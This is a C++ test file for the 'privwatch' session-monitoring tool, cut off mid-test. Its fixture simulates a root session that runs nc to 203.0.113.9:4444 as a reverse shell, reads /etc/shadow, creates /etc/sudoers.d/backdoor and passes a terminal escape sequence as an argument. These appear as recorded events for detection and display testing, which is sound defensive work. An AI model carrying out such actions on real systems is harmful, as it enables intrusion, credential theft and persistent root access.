// privwatch sessions / session show over a store filled the way the agent fills it: session
// versions, events, escalations and alerts encoded by the store's own encoders from model
// objects (an SSH login of alice, sudo -i into a nested root session, commands with exit codes,
// a reverse shell and its alert; bob's incomplete session on another host; a cron job).
#include "store/session_query.hpp"

#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <functional>
#include <nlohmann/json.hpp>

#include "store/encode.hpp"
#include "store/session_format.hpp"
#include "store/sink.hpp"
#include "store_test_util.hpp"

namespace privwatch::store {
namespace {

using nlohmann::json;
using testing::kSec;
using testing::kT0;
using testing::TempDir;

constexpr uint64_t kBoot = kT0 - 3600 * kSec;  // wall time of boot: boot ns + kBoot = wall ns

struct Proc {
  uint32_t pid = 0, ppid = 0;
  uint64_t start_boot = 0, parent_start_boot = 0;
  uint32_t uid = 0, euid = 0, loginuid = model::kUnsetId;
  std::string user, euser, human, exe;
  std::shared_ptr<model::Session> session;
};

class SessionQueryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    st_ = testing::open_store(dir_);
    ASSERT_TRUE(st_);
    ASSERT_TRUE(st_->begin());
    build();
    ASSERT_TRUE(st_->commit());
  }

  std::shared_ptr<model::Session> session(const std::string& id, model::EntryType type,
                                          const Proc& leader, uint64_t start,
                                          const std::string& user, const std::string& human,
                                          const std::string& parent = "") {
    auto s = std::make_shared<model::Session>();
    s->id = id;
    s->parent_id = parent;
    s->entry_type = type;
    s->leader = {leader.pid, model::ns_to_ticks(leader.start_boot)};
    s->leader_exe = leader.exe;
    s->start_wall_ns = start;
    s->user = user;
    s->human = human;
    s->host = "app-3";
    s->version = 0;
    return s;
  }

  void put_session(model::Session& s, uint64_t now) {
    ++s.version;
    Record r;
    encode_session(s, "app-3", now, r);
    ASSERT_TRUE(st_->append(r));
  }

  model::Event event(model::EventKind kind, const Proc& p, uint64_t wall) {
    model::Event ev;
    ev.kind = kind;
    ev.wall_time_ns = wall;
    ev.ts_ns = wall - kBoot;
    ev.proc.pid = p.pid;
    ev.proc.tid = p.pid;
    ev.proc.ppid = p.ppid;
    ev.proc.start_ns = p.start_boot;
    ev.proc.parent_start_ns = p.parent_start_boot;
    ev.proc.uid = p.uid;
    ev.proc.euid = p.euid;
    ev.proc.loginuid = p.loginuid;
    ev.proc.comm = p.exe.substr(p.exe.rfind('/') + 1);
    ev.user_name = p.user;
    ev.effective_user_name = p.euser;
    ev.login_user_name = p.human;
    ev.exe = p.exe;
    ev.attr.host = p.session ? p.session->host : "app-3";
    ev.attr.human = p.human;
    ev.attr.session = p.session;
    ev.attr.escalated = p.euser != p.human;
    if (p.session) {
      ev.attr.roles = p.session->roles;
      ev.attr.cluster = p.session->cluster;
    }
    return ev;
  }

  void put(const model::Event& ev) {
    Record r;
    encode_event(ev, "app-3", r);
    ASSERT_TRUE(st_->append(r));
  }

  void exec(Proc& p, uint64_t wall, const std::string& exe, std::vector<std::string> args,
            int err = 0) {
    auto ev = event(model::EventKind::kExec, p, wall);
    model::ExecData d;
    d.exe_path = err == 0 ? exe : p.exe;
    d.filename = exe;
    d.cwd = "/home/alice";
    d.result = -err;
    if (err != 0) d.flags |= model::kExecFailed;
    if (err == 0) d.args = std::move(args);
    ev.data = d;
    put(ev);
    if (err == 0) p.exe = exe;
  }

  void fork(const Proc& parent, const Proc& child, uint64_t wall) {
    auto ev = event(model::EventKind::kFork, parent, wall);
    ev.data = model::ForkData{child.pid, child.start_boot};
    put(ev);
  }

  void exit(const Proc& p, uint64_t wall, int status, int sig = 0) {
    auto ev = event(model::EventKind::kExit, p, wall);
    ev.data = model::ExitData{static_cast<uint32_t>(sig != 0 ? sig : status << 8)};
    put(ev);
  }

  static Proc child(const Proc& parent, uint32_t pid, uint64_t start_wall) {
    Proc c = parent;
    c.pid = pid;
    c.ppid = parent.pid;
    c.start_boot = start_wall - kBoot;
    c.parent_start_boot = parent.start_boot;
    return c;
  }

  void build() {
    // alice logs in over SSH at kT0 (sshd leader 1000, her shell 1001).
    Proc sshd{1000, 1, kT0 - kBoot, 0, 0, 0, 1001, "root", "root", "alice", "/usr/sbin/sshd"};
    ssh_ = session("b00t0001-1000-" + std::to_string(model::ns_to_ticks(sshd.start_boot)),
                   model::EntryType::kSsh, sshd, kT0, "alice", "alice");
    ssh_->client_ip = "10.0.0.5";
    ssh_->client_port = 40222;
    ssh_->loginuid = 1001;
    ssh_->audit_session = 36;
    ssh_->uid = 1001;
    ssh_->roles = {"dba", "oncall"};
    ssh_->cluster = "app-servers";
    ssh_->tty = "pts3";
    ssh_->interactive = true;
    put_session(*ssh_, kT0);
    sshd.session = ssh_;
    Proc bash = child(sshd, 1001, kT0 + kSec);
    bash.uid = bash.euid = 1001;
    bash.user = bash.euser = "alice";
    fork(sshd, bash, kT0 + kSec);
    exec(bash, kT0 + kSec, "/bin/bash", {"-bash"});
    exec(bash, kT0 + 2 * kSec, "/nonexistent", {}, 2);  // a typo: ENOENT
    // sudo -i (1002) → root shell 1003: a nested sudo session.
    Proc sudo = child(bash, 1002, kT0 + 10 * kSec);
    fork(bash, sudo, kT0 + 10 * kSec);
    sudo.euid = 0;
    sudo.euser = "root";
    exec(sudo, kT0 + 10 * kSec, "/usr/bin/sudo", {"sudo", "-i"});
    Proc root = child(sudo, 1003, kT0 + 11 * kSec);
    root.uid = root.euid = 0;
    root.user = root.euser = "root";
    sudo_ = session("b00t0001-1003-" + std::to_string(model::ns_to_ticks(root.start_boot)),
                    model::EntryType::kSudo, root, kT0 + 11 * kSec, "root", "alice", ssh_->id);
    sudo_->roles = ssh_->roles;
    sudo_->cluster = ssh_->cluster;
    fork(sudo, root, kT0 + 11 * kSec);
    {
      model::Escalation e;
      e.wall_ns = kT0 + 11 * kSec;
      e.session_id = ssh_->id;
      e.method = model::EscalationMethod::kSudo;
      e.from_uid = 1001;
      e.from_user = "alice";
      e.to_uid = 0;
      e.to_user = "root";
      e.human = "alice";
      e.process = {1003, model::ns_to_ticks(root.start_boot)};
      e.tool = "/usr/bin/sudo";
      e.tool_args = {"sudo", "-i"};
      e.command = "/bin/bash";
      e.command_args = {"-bash"};
      Record r;
      encode_escalation(e, "app-3", r);
      ASSERT_TRUE(st_->append(r));
    }
    put_session(*sudo_, kT0 + 11 * kSec);
    root.session = sudo_;
    exec(root, kT0 + 11 * kSec, "/bin/bash", {"-bash"});
    // Commands as root: id (exit 0), sh -c 'exit 3', nc to 203.0.113.9:4444 killed by SIGKILL.
    Proc id = child(root, 1004, kT0 + 20 * kSec);
    fork(root, id, kT0 + 20 * kSec);
    exec(id, kT0 + 20 * kSec, "/usr/bin/id", {"id", "-u"});
    exit(id, kT0 + 20 * kSec + 2'000'000, 0);
    Proc sh = child(root, 1005, kT0 + 30 * kSec);
    fork(root, sh, kT0 + 30 * kSec);
    exec(sh, kT0 + 30 * kSec, "/bin/sh", {"sh", "-c", "exit 3"});
    exit(sh, kT0 + 30 * kSec + 1'000'000, 3);
    Proc nc = child(root, 1006, kT0 + 40 * kSec);
    fork(root, nc, kT0 + 40 * kSec);
    exec(nc, kT0 + 40 * kSec, "/usr/bin/nc", {"nc", "203.0.113.9", "4444", "\x1b[2J"});
    {
      auto ev = event(model::EventKind::kNet, nc, kT0 + 41 * kSec);
      model::NetData d;
      d.op = model::NetOp::kConnect;
      d.family = AF_INET;
      d.sock_type = 1;
      d.protocol = 6;
      d.remote_port = 4444;
      d.local_port = 51522;
      inet_pton(AF_INET, "203.0.113.9", d.remote_addr.data());
      inet_pton(AF_INET, "10.0.4.17", d.local_addr.data());
      ev.data = d;
      put(ev);
    }
    {
      auto ev = event(model::EventKind::kFile, root, kT0 + 45 * kSec);
      ev.flags |= model::kFlagSensitive;
      model::FileData d;
      d.op = model::FileOp::kOpen;
      d.path = "/etc/shadow";
      d.requested_path = "/etc/shadow";
      ev.data = d;
      put(ev);
    }
    {
      auto ev = event(model::EventKind::kFile, root, kT0 + 45 * kSec + 1000);
      ev.flags |= model::kFlagSensitive;
      model::FileData d;
      d.op = model::FileOp::kOpen;
      d.path = "/etc/sudoers.d/backdoor";
      d.file_flags = model::kFileCreated | model::kFileWrite;
      ev.data = d;
      put(ev);
    }
    {
      auto ev = event(model::EventKind::kTty, root, kT0 + 46 * kSec);  // never shown
      model::TtyData d;
      d.data = "secret screen";
      ev.data = d;
      put(ev);
    }
    {
      model::Alert a;
      a.id = "al-rev";
      a.wall_ns = kT0 + 41 * kSec;
      a.severity = model::Severity::kCritical;
      a.rule = "reverse_shell";
      a.title = "alice ran nc to 203.0.113.9:4444";
      a.user = "root";
      a.human = "alice";
      a.session_id = sudo_->id;
      Record r;
      encode_alert(a, "app-3", r);
      ASSERT_TRUE(st_->append(r));
    }
    {
      model::ResponseAction a;  // the rule's response: nc killed
      a.id = "act-0001";
      a.wall_ns = kT0 + 50 * kSec;
      a.action = model::ActionType::kKill;
      a.origin = model::ActionOrigin::kRule;
      a.result = model::ActionResult::kSuccess;
      a.session_id = sudo_->id;
      a.root_pid = 1006;
      a.pids = {1006};
      a.reason = "reverse shell";
      a.alert_id = "al-rev";
      a.rule = "reverse_shell";
      a.actor = "privwatch-agent";
      Record r;
      encode_action(a, "app-3", r);
      ASSERT_TRUE(st_->append(r));
    }
    exit(nc, kT0 + 50 * kSec, 0, 9);
    // env looks foo up in PATH (one miss), and a subshell that runs nothing.
    Proc env = child(root, 1007, kT0 + 55 * kSec);
    fork(root, env, kT0 + 55 * kSec);
    exec(env, kT0 + 55 * kSec, "/usr/bin/env", {"env", "foo"});
    exec(env, kT0 + 55 * kSec + 1000, "/usr/local/bin/foo", {}, 2);
    exec(env, kT0 + 55 * kSec + 2000, "/usr/bin/foo", {"foo"});
    exit(env, kT0 + 56 * kSec, 0);
    Proc sub = child(root, 1008, kT0 + 57 * kSec);
    fork(root, sub, kT0 + 57 * kSec);
    exit(sub, kT0 + 57 * kSec + 1000, 0);
    exit(root, kT0 + 60 * kSec, 0);
    sudo_->end_wall_ns = kT0 + 60 * kSec;
    put_session(*sudo_, kT0 + 60 * kSec);
    exit(sudo, kT0 + 60 * kSec, 0);
    exit(bash, kT0 + 70 * kSec, 0);
    exit(sshd, kT0 + 71 * kSec, 0);
    ssh_->end_wall_ns = kT0 + 71 * kSec;
    put_session(*ssh_, kT0 + 71 * kSec);

    // bob on db-1 (cluster db-servers, no roles), still active, lost events.
    Proc bsshd{2000,   1,     kT0 + 100 * kSec - kBoot, 0, 0, 0, 1002, "root",
               "root", "bob", "/usr/sbin/sshd"};
    bob_ =
        session("b00t0001-2000-1", model::EntryType::kSsh, bsshd, kT0 + 100 * kSec, "bob", "bob");
    bob_->host = "db-1";
    bob_->cluster = "db-servers";
    put_session(*bob_, kT0 + 100 * kSec);
    bob_->lost_events = 12;
    put_session(*bob_, kT0 + 200 * kSec);

    // A cron job the day before: no human, ended.
    Proc cron{3000, 1, 100 * kSec, 0, 0, 0, model::kUnsetId, "root", "root", "", "/usr/sbin/cron"};
    cron_ =
        session("c00t0002-3000-5", model::EntryType::kCron, cron, kT0 - 86400 * kSec, "root", "");
    put_session(*cron_, kT0 - 86400 * kSec);
    cron_->end_wall_ns = kT0 - 86400 * kSec + 5 * kSec;
    put_session(*cron_, kT0 - 86400 * kSec + 5 * kSec);

    // A session written by another producer: roles and cluster only in the record's columns.
    Record r;
    r.kind = RecordKind::kSession;
    r.wall_ns = kT0 + 300 * kSec;
    r.name = "sshd";
    r.host = "app-4";
    r.user = "carol";
    r.human = "carol";
    r.session = r.ref = "d00t0003-4000-9";
    r.roles = {"sre"};
    r.cluster = "edge";
    r.body = json({{"session",
                    {{"id", r.ref},
                     {"type", "sshd"},
                     {"active", true},
                     {"version", 1},
                     {"start", "2026-11-20T10:05:00Z"}}},
                   {"process", {{"entry_leader", {{"pid", 4000}, {"user", {{"name", "carol"}}}}}}},
                   {"privwatch", {{"human", "carol"}}}})
                 .dump();
    ASSERT_TRUE(st_->append(r));
  }

  std::vector<std::string> ids(const SessionFilter& f) {
    auto l = list_sessions(*st_, f);
    EXPECT_TRUE(l) << (l ? "" : l.error().to_string());
    std::vector<std::string> out;
    if (l) {
      for (const auto& s : l->sessions) out.push_back(s.id);
    }
    return out;
  }

  SessionDetail detail(const std::string& id, SessionDetailOptions o = {}) {
    auto d = session_detail(*st_, id, o);
    EXPECT_TRUE(d) << (d ? "" : d.error().to_string());
    return d ? std::move(*d) : SessionDetail{};
  }

  TempDir dir_;
  std::unique_ptr<Store> st_;
  std::shared_ptr<model::Session> ssh_, sudo_, bob_, cron_;
};

using V = std::vector<std::string>;

const ProcessNode* find_node(const std::vector<ProcessNode>& v, uint32_t pid) {
  for (const auto& n : v) {
    if (n.pid == pid) return &n;
    if (const auto* c = find_node(n.children, pid)) return c;
  }
  return nullptr;
}

TEST_F(SessionQueryTest, ListsTheNewestVersionOfEverySessionNewestStartFirst) {
  auto l = list_sessions(*st_, {});
  ASSERT_TRUE(l) << l.error().to_string();
  ASSERT_EQ(l->sessions.size(), 5u);
  EXPECT_FALSE(l->truncated);
  EXPECT_EQ(ids({}), (V{"d00t0003-4000-9", bob_->id, sudo_->id, ssh_->id, cron_->id}));
  const auto& bob = l->sessions[1];
  EXPECT_TRUE(bob.active);
  EXPECT_TRUE(bob.incomplete);
  EXPECT_EQ(bob.lost_events, 12u);
  EXPECT_EQ(bob.version, 2u);
  const auto& ssh = l->sessions[3];
  EXPECT_FALSE(ssh.active);
  EXPECT_EQ(ssh.type, "sshd");
  EXPECT_EQ(ssh.client_ip, "10.0.0.5");
  EXPECT_EQ(ssh.client_port, 40222u);
  EXPECT_EQ(ssh.end_ns - ssh.start_ns, 71 * kSec);
  EXPECT_EQ(ssh.roles, (V{"dba", "oncall"}));
  // Counts of its own records: bash and sudo (and a failed exec); the escalation to root.
  EXPECT_EQ(ssh.counts.commands, 2u);
  EXPECT_EQ(ssh.counts.failed_execs, 1u);
  EXPECT_EQ(ssh.counts.escalations, 1u);
  EXPECT_EQ(ssh.counts.escalated_to, (V{"root"}));
  EXPECT_EQ(ssh.counts.alerts, 0u);
  const auto& sudo = l->sessions[2];
  EXPECT_EQ(sudo.parent_id, ssh_->id);
  EXPECT_EQ(sudo.user, "root");
  EXPECT_EQ(sudo.human, "alice");
  EXPECT_EQ(sudo.counts.commands, 6u);  // -bash, id, sh, nc, env, foo
  EXPECT_EQ(sudo.counts.failed_execs, 1u);
  EXPECT_EQ(sudo.counts.alerts, 1u);
  // The producer that put roles and cluster only in the columns.
  EXPECT_EQ(l->sessions[0].roles, (V{"sre"}));
  EXPECT_EQ(l->sessions[0].cluster, "edge");
  EXPECT_EQ(l->sessions[0].user, "carol");
}

TEST_F(SessionQueryTest, Filters) {
  SessionFilter f;
  f.user = "alice";  // the user or the human: the root session is alice's too
  EXPECT_EQ(ids(f), (V{sudo_->id, ssh_->id}));
  f = {};
  f.user = "root";
  EXPECT_EQ(ids(f), (V{sudo_->id, cron_->id}));
  f = {};
  f.host = "db-1";
  EXPECT_EQ(ids(f), (V{bob_->id}));
  f = {};
  f.role = "dba";
  EXPECT_EQ(ids(f), (V{sudo_->id, ssh_->id}));
  f.role = "sre";  // the record's roles column
  EXPECT_EQ(ids(f), (V{"d00t0003-4000-9"}));
  f = {};
  f.cluster = "db-servers";
  EXPECT_EQ(ids(f), (V{bob_->id}));
  f.cluster = "edge";
  EXPECT_EQ(ids(f), (V{"d00t0003-4000-9"}));
  f = {};
  f.active_only = true;
  EXPECT_EQ(ids(f), (V{"d00t0003-4000-9", bob_->id}));
  // Active at some time since kT0 + 65 s: the login (ended at +71 s) and the active ones, not
  // the sudo session (ended at +60 s) nor yesterday's cron job.
  f = {};
  f.since_ns = kT0 + 65 * kSec;
  EXPECT_EQ(ids(f), (V{"d00t0003-4000-9", bob_->id, ssh_->id}));
  // Started before kT0 + 50 s.
  f = {};
  f.until_ns = kT0 + 50 * kSec;
  EXPECT_EQ(ids(f), (V{sudo_->id, ssh_->id, cron_->id}));
  f.since_ns = kT0 - 3600 * kSec;
  EXPECT_EQ(ids(f), (V{sudo_->id, ssh_->id}));
  f = {};
  f.user = "nobody";
  EXPECT_TRUE(ids(f).empty());
}

TEST_F(SessionQueryTest, LimitSaysTruncated) {
  SessionFilter f;
  f.limit = 2;
  auto l = list_sessions(*st_, f);
  ASSERT_TRUE(l);
  EXPECT_EQ(l->sessions.size(), 2u);
  EXPECT_TRUE(l->truncated);
  EXPECT_NE(sessions_text(*l, 2).find("raise --limit"), std::string::npos);
  f.limit = 5;
  l = list_sessions(*st_, f);
  ASSERT_TRUE(l);
  EXPECT_FALSE(l->truncated);
  // Counting stops at count_cap and says so.
  f.count_cap = 3;
  l = list_sessions(*st_, f);
  ASSERT_TRUE(l);
  const auto& ssh = l->sessions[3];
  EXPECT_TRUE(ssh.counts.capped);
  EXPECT_EQ(ssh.counts.records, 3u);
}

TEST_F(SessionQueryTest, IdPrefixes) {
  auto r = resolve_session_id(*st_, ssh_->id);
  ASSERT_TRUE(r);
  EXPECT_EQ(*r, ssh_->id);
  r = resolve_session_id(*st_, "b00t0001-1000");  // only alice's login (not 1003-...)
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_EQ(*r, ssh_->id);
  r = resolve_session_id(*st_, "c");
  ASSERT_TRUE(r);
  EXPECT_EQ(*r, cron_->id);
  r = resolve_session_id(*st_, "b00t0001-");  // three sessions
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ErrorKind::kInvalidArgument);
  EXPECT_NE(r.error().message.find(ssh_->id), std::string::npos);
  EXPECT_NE(r.error().message.find(bob_->id), std::string::npos);
  r = resolve_session_id(*st_, "zz");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ErrorKind::kNotFound);
  EXPECT_NE(r.error().message.find("zz"), std::string::npos);
  EXPECT_NE(r.error().hint.find("privwatch sessions"), std::string::npos);
  r = resolve_session_id(*st_, "al-rev");  // an alert id is not a session
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ErrorKind::kNotFound);
  r = resolve_session_id(*st_, "");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ErrorKind::kInvalidArgument);
  auto d = session_detail(*st_, "b00t0001-9999-1", {});
  ASSERT_FALSE(d);
  EXPECT_EQ(d.error().kind, ErrorKind::kNotFound);
}

TEST_F(SessionQueryTest, DetailBuildsTheProcessTreeAcrossTheNestedSession) {
  const SessionDetail d = detail(ssh_->id);
  EXPECT_EQ(d.session.id, ssh_->id);
  EXPECT_EQ(d.session.human, "alice");
  EXPECT_EQ(d.session.leader_exe, "/usr/sbin/sshd");
  EXPECT_EQ(d.session.login_uid, 1001);
  EXPECT_EQ(d.session.audit_session, 36);
  ASSERT_EQ(d.nested.size(), 1u);
  EXPECT_EQ(d.nested[0].id, sudo_->id);
  EXPECT_FALSE(d.truncated);
  // One root: the entry leader, with the whole login below it.
  ASSERT_EQ(d.processes.size(), 1u) << session_detail_text(d);
  const ProcessNode& leader = d.processes[0];
  EXPECT_EQ(leader.pid, 1000u);
  EXPECT_TRUE(leader.leader);
  EXPECT_EQ(leader.exit_code, 0);
  ASSERT_EQ(leader.children.size(), 1u);
  const ProcessNode& bash = leader.children[0];
  EXPECT_EQ(bash.pid, 1001u);
  ASSERT_EQ(bash.execs.size(), 2u);
  EXPECT_EQ(bash.execs[0].args, (V{"-bash"}));
  EXPECT_TRUE(bash.execs[1].failed);
  EXPECT_EQ(bash.execs[1].error, "ENOENT");
  EXPECT_EQ(bash.execs[1].executable, "/nonexistent");
  EXPECT_EQ(bash.name, "/bin/bash");
  ASSERT_EQ(bash.children.size(), 1u);
  const ProcessNode& sudo = bash.children[0];
  EXPECT_EQ(sudo.execs.at(0).args, (V{"sudo", "-i"}));
  ASSERT_EQ(sudo.children.size(), 1u);
  const ProcessNode& root = sudo.children[0];
  EXPECT_EQ(root.session_id, sudo_->id);
  EXPECT_TRUE(root.leader);
  EXPECT_EQ(root.user, "root");
  EXPECT_EQ(root.human, "alice");
  ASSERT_EQ(root.children.size(), 5u);
  EXPECT_EQ(root.children[0].execs.at(0).args, (V{"id", "-u"}));
  EXPECT_EQ(root.children[0].exit_code, 0);
  EXPECT_EQ(root.children[0].exit_ns - root.children[0].start_ns, 2'000'000u);
  const ProcessNode& sh = root.children[1];
  EXPECT_EQ(sh.execs.at(0).args, (V{"sh", "-c", "exit 3"}));
  EXPECT_TRUE(sh.exited);
  EXPECT_EQ(sh.exit_code, 3);
  EXPECT_EQ(sh.human, "alice");  // alice's, though it ran as root
  EXPECT_EQ(sh.user, "root");
  EXPECT_TRUE(sh.execs.at(0).escalated);
  const ProcessNode& nc = root.children[2];
  EXPECT_EQ(nc.exit_signal, 9);
  EXPECT_EQ(nc.exit_code, 137);
  EXPECT_EQ(nc.signal_name, "SIGKILL");
  EXPECT_EQ(nc.network, 1u);
  EXPECT_EQ(root.files, 2u);

  ASSERT_EQ(d.escalations.size(), 1u);
  EXPECT_EQ(d.escalations[0].method, "sudo");
  EXPECT_EQ(d.escalations[0].from_user, "alice");
  EXPECT_EQ(d.escalations[0].to_user, "root");
  EXPECT_TRUE(d.escalations[0].success);
  EXPECT_EQ(d.escalations[0].command, "/bin/bash");
  ASSERT_EQ(d.files.size(), 2u);
  EXPECT_EQ(d.files[0].path, "/etc/shadow");
  EXPECT_TRUE(d.files[0].sensitive);
  EXPECT_FALSE(d.files[0].write);
  EXPECT_EQ(d.files[1].path, "/etc/sudoers.d/backdoor");
  EXPECT_TRUE(d.files[1].write);
  ASSERT_EQ(d.network.size(), 1u);
  EXPECT_EQ(d.network[0].destination_ip, "203.0.113.9");
  EXPECT_EQ(d.network[0].destination_port, 4444u);
  ASSERT_EQ(d.alerts.size(), 1u);
  EXPECT_EQ(d.alerts[0].rule, "reverse_shell");
  EXPECT_EQ(d.alerts[0].severity, "critical");
  ASSERT_EQ(d.responses.size(), 1u);
  EXPECT_EQ(d.responses[0].action, "kill");
  EXPECT_EQ(d.responses[0].result, "success");
  EXPECT_EQ(d.responses[0].origin, "rule");
  EXPECT_EQ(d.responses[0].pids, (std::vector<uint32_t>{1006}));
  EXPECT_EQ(d.responses[0].session_id, sudo_->id);
  EXPECT_TRUE(d.other.empty());  // the tty event is not shown
  EXPECT_EQ(d.counts.commands, 8u);
  EXPECT_EQ(d.counts.failed_execs, 2u);
  const ProcessNode& env = root.children[3];
  ASSERT_EQ(env.execs.size(), 3u);  // everything is kept (JSON); the text folds the PATH miss
  EXPECT_EQ(env.name, "/usr/bin/foo");
  EXPECT_TRUE(root.children[4].execs.empty());
}

TEST_F(SessionQueryTest, DetailWithoutNestedSessions) {
  SessionDetailOptions o;
  o.nested = false;
  const SessionDetail d = detail(ssh_->id, o);
  EXPECT_TRUE(d.nested.empty());
  EXPECT_TRUE(d.alerts.empty());  // the alert belongs to the sudo session
  EXPECT_EQ(d.escalations.size(), 1u);
  EXPECT_EQ(find_node(d.processes, 1005), nullptr);
  EXPECT_NE(find_node(d.processes, 1002), nullptr);
  // The nested session itself shows its parent and its own tree.
  const SessionDetail n = detail(sudo_->id);
  EXPECT_EQ(n.session.parent_id, ssh_->id);
  EXPECT_NE(find_node(n.processes, 1005), nullptr);
  EXPECT_EQ(find_node(n.processes, 1001), nullptr);
}

TEST_F(SessionQueryTest, DetailLimitKeepsAlertsAndEscalationsAndSaysTruncated) {
  SessionDetailOptions o;
  o.limit = 5;
  const SessionDetail d = detail(ssh_->id, o);
  EXPECT_TRUE(d.truncated);
  EXPECT_EQ(d.counts.records_read, 5u);
  EXPECT_GT(d.counts.records_total, 20u);
  EXPECT_EQ(d.alerts.size(), 1u);  // past the limit, fetched anyway
  EXPECT_EQ(d.escalations.size(), 1u);
  EXPECT_NE(session_detail_text(d).find("TRUNCATED"), std::string::npos);
  EXPECT_EQ(json::parse(session_detail_json(d))["truncated"], true);
}

TEST_F(SessionQueryTest, JsonShape) {
  auto l = list_sessions(*st_, {});
  ASSERT_TRUE(l);
  const json lj = json::parse(sessions_json(*l, 50));
  ASSERT_EQ(lj["sessions"].size(), 5u);
  EXPECT_EQ(lj["count"], 5);
  EXPECT_EQ(lj["truncated"], false);
  const json& s = lj["sessions"][3];
  EXPECT_EQ(s["id"], ssh_->id);
  EXPECT_EQ(s["type"], "sshd");
  EXPECT_EQ(s["human"], "alice");
  EXPECT_EQ(s["client"]["ip"], "10.0.0.5");
  EXPECT_EQ(s["client"]["port"], 40222);
  EXPECT_EQ(s["entry_leader"]["executable"], "/usr/sbin/sshd");
  EXPECT_EQ(s["roles"], json({"dba", "oncall"}));
  EXPECT_EQ(s["cluster"], "app-servers");
  EXPECT_EQ(s["active"], false);
  EXPECT_DOUBLE_EQ(s["duration_s"].get<double>(), 71.0);
  EXPECT_EQ(s["counts"]["commands"], 2);
  EXPECT_EQ(s["counts"]["failed_execs"], 1);
  EXPECT_EQ(s["escalated_to"], json({"root"}));
  EXPECT_EQ(lj["sessions"][1]["incomplete"], true);
  EXPECT_EQ(lj["sessions"][1]["lost_events"], 12);

  const json dj = json::parse(session_detail_json(detail(ssh_->id)));
  for (const char* k : {"session", "nested_sessions", "process_tree", "escalations", "files",
                        "network", "alerts", "responses", "other_events", "counts", "truncated"}) {
    EXPECT_TRUE(dj.contains(k)) << k;
  }
  EXPECT_EQ(dj["session"]["id"], ssh_->id);
  EXPECT_EQ(dj["nested_sessions"][0]["type"], "sudo");
  const json& leader = dj["process_tree"][0];
  EXPECT_EQ(leader["entry_leader"], true);
  const json& root = leader["children"][0]["children"][0]["children"][0];
  EXPECT_EQ(root["session_id"], sudo_->id);
  EXPECT_EQ(root["human"], "alice");
  const json& sh = root["children"][1];
  EXPECT_EQ(sh["execs"][0]["command_line"], "sh -c exit 3");
  EXPECT_EQ(sh["exit"]["code"], 3);
  EXPECT_EQ(root["children"][2]["exit"]["signal_name"], "SIGKILL");
  EXPECT_EQ(dj["escalations"][0]["to_user"], "root");
  EXPECT_EQ(dj["escalations"][0]["outcome"], "success");
  EXPECT_EQ(dj["network"][0]["destination"]["port"], 4444);
}

TEST_F(SessionQueryTest, TextIsReadableAndSafeForATerminal) {
  auto l = list_sessions(*st_, {});
  ASSERT_TRUE(l);
  const std::string table = sessions_text(*l, 50);
  EXPECT_NE(table.find("SESSION"), std::string::npos);
  EXPECT_NE(table.find("alice→root"), std::string::npos) << table;
  EXPECT_NE(table.find("INCOMPLETE (12 events lost)"), std::string::npos) << table;
  EXPECT_NE(table.find("from 10.0.0.5:40222"), std::string::npos);
  EXPECT_NE(table.find("1m11s"), std::string::npos);
  EXPECT_NE(table.find("active"), std::string::npos);
  EXPECT_NE(table.find("(5 sessions)"), std::string::npos);

  const std::string text = session_detail_text(detail(ssh_->id));
  EXPECT_NE(text.find("exit 3"), std::string::npos) << text;
  EXPECT_NE(text.find("killed by SIGKILL"), std::string::npos);
  EXPECT_NE(text.find("sudo -i"), std::string::npos);
  EXPECT_NE(text.find("[sudo session " + sudo_->id + "]"), std::string::npos) << text;
  EXPECT_NE(text.find("alice → root  success"), std::string::npos) << text;
  EXPECT_NE(text.find("exec failed (ENOENT): /nonexistent"), std::string::npos) << text;
  EXPECT_NE(text.find("↳ exec foo  [/usr/bin/foo]  (after 1 PATH miss)"), std::string::npos)
      << text;
  EXPECT_EQ(text.find("/usr/local/bin/foo"), std::string::npos) << text;
  EXPECT_NE(text.find("(1 forked subshell that ran no program of its own not shown"),
            std::string::npos)
      << text;
  EXPECT_EQ(text.find(" 1008 "), std::string::npos) << text;
  EXPECT_NE(text.find("203.0.113.9:4444"), std::string::npos);
  EXPECT_NE(text.find("read, sensitive (1 path):\n    /etc/shadow\n"), std::string::npos) << text;
  EXPECT_NE(text.find("/etc/sudoers.d/backdoor  root pid 1003  write  SENSITIVE"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("reverse_shell"), std::string::npos);
  EXPECT_NE(text.find("10.0.0.5:40222"), std::string::npos);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);  // the escape sequence is shown, not sent
  EXPECT_NE(text.find("\\x1b[2J"), std::string::npos);
}

TEST(SessionFormatTest, Helpers) {
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T10:00:00Z"), kT0);
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T10:00:00.81Z"), kT0 + 810'000'000ull);
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T10:00:00.123456789Z"), kT0 + 123456789ull);
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T11:00:00+01:00"), kT0);
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20"), 0u);
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T10:00:00"), 0u);
  EXPECT_EQ(parse_rfc3339_ns("2026-13-20T10:00:00Z"), 0u);  // timegm normalised it before
  EXPECT_EQ(parse_rfc3339_ns("2026-11-20T10:00:00.Z"), 0u);
  EXPECT_EQ(format_duration(45 * kSec), "45s");
  EXPECT_EQ(format_duration(723 * kSec), "12m03s");
  EXPECT_EQ(format_duration(3 * 3600 * kSec + 120 * kSec), "3h02m");
  EXPECT_EQ(format_duration(2 * 86400 * kSec + 4 * 3600 * kSec), "2d04h");
  EXPECT_EQ(shell_join({"sh", "-c", "exit 3"}), "sh -c 'exit 3'");
  EXPECT_EQ(shell_join({"echo", "it's"}), "echo 'it'\\''s'");
  EXPECT_EQ(printable("a\x1b[31mb\x7f"), "a\\x1b[31mb\\x7f");
}

}  // namespace
}  // namespace privwatch::store

namespace privwatch::store {
namespace {

// The agent's responder reaches the store through StoreSink::on_action; session show lists the
// action under the session it acted on.
TEST(SessionStoreSink, ResponseActionsAreStoredWithTheirSession) {
  TempDir dir;
  config::StoreConfig c;
  c.path = dir / "db/privwatch.db";
  c.key_path = dir / "db/store.key";
  c.commit_interval_ms = 5;
